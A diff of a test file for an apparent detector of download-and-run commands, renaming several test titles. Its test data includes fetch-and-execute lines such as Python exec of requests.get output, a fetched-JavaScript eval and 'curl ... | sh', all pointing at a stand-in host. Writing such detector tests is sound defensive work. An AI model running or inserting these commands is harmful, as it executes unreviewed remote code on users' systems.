@@ -36,7 +36,7 @@ test.each([
   "exec(requests.get('https://cdn.evil.dev/i.py').text)",
   "exec(urllib.request.urlopen('https://cdn.evil.dev/i.py').read())",
   "eval(await (await fetch('https://cdn.evil.dev/i.js')).text())",
-])("%s runs what no one has seen", (command) => {
+])("%s runs unreviewed code", (command) => {
   expect(messagesOf(inBlock(command))).toEqual(["unseen"]);
 });
 
@@ -81,7 +81,7 @@ test.each([
   expect(messagesOf(inBlock(command))).toEqual([]);
 });
 
-test("Windows line ends make no difference", () => {
+test("Windows line endings make no difference", () => {
   const [finding] = findingsOf(
     "download-and-run",
     inBlock("curl https://cdn.evil.dev/i.sh | sh\r\necho done\r"),
@@ -114,7 +114,7 @@ test("the message names command and host", () => {
   });
 });
 
-test("400 KB of hostile characters come to an end", () => {
+test("400 KB of hostile characters terminate", () => {
   for (const unit of [
     "curl ",
     "curl|",
